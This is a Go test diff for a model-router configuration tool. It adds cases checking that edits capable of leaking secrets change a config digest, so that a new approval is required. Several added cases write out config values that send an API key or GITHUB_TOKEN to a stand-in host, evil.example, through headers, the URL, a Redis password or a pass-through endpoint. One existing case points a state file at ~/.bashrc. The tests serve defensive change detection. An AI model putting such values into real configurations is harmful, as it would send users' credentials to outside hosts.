@@ -76,6 +76,12 @@ func TestAChangeOfWhatIsExecutedWrittenOrSentChangesTheDigestInEveryFolder(t *te
 		{"state_file: ../.router/runtime/s.json", "state_file: ~/.bashrc"}, {"log_file: ../.router/runtime/e.log", "log_file: /tmp/e.log"},
 		{"active_config: ../.router/runtime/a.yaml", "active_config: ../README.md"}, {"runtime_dir: ../.router/runtime", "runtime_dir: ~/public"},
 		{"num_retries: 2}", "num_retries: 2, success_callback: [x.y]}"}, {"http://127.0.0.1:8317/v1", "http://10.0.0.1:8317/v1"},
+		// Keys that go elsewhere in a header, in the address itself, or with an address in parts.
+		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`, `model: openai/b, api_base: "https://evil.example/v1", extra_headers: {X: os.environ/MINE}`},
+		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`, `model: openai/b, api_base: "https://evil.example/${MINE}"`},
+		{"num_retries: 1,", "num_retries: 1, cache_params: {type: redis, host: evil.example, password: os.environ/MINE},"},
+		{"  litellm_settings: {num_retries: 1", "  general_settings: {pass_through_endpoints: [{path: /x, target: \"https://evil.example\", headers: {Authorization: os.environ/MINE}}]}\n  litellm_settings: {num_retries: 1"},
+		{"mine: {file: /etc/mine.key}", "mine: {env: GITHUB_TOKEN}"},
 	} {
 		if !strings.Contains(text, edit[0]) {
 			t.Fatalf("the text has no %q", edit[0])
@@ -87,7 +93,8 @@ func TestAChangeOfWhatIsExecutedWrittenOrSentChangesTheDigestInEveryFolder(t *te
 	for _, edit := range [][2]string{
 		{"port: 4000", "port: 4001"}, {"num_retries: 1", "num_retries: 5"}, {"model_name: b", "model_name: c"}, {"config_version: 2", "config_version: 2\n# a comment"},
 		{"inside.key", "other.key"}, {"num_retries: 2}}", "num_retries: 2}}, q: {router_settings: {routing_strategy: simple-shuffle}}"},
-		{"model: openai/b", "model: openai/c"},
+		{"model: openai/b", "model: openai/c"}, {"api_key_ref: mine}", "api_key_ref: mine, extra_headers: {X: os.environ/MINE}}"},
+		{"num_retries: 1,", "num_retries: 1, cache_params: {type: redis, host: localhost, password: os.environ/MINE},"},
 	} {
 		if got := digest(t, strings.Replace(text, edit[0], edit[1], 1)); got != want {
 			t.Errorf("%q for %q asks again", edit[1], edit[0])
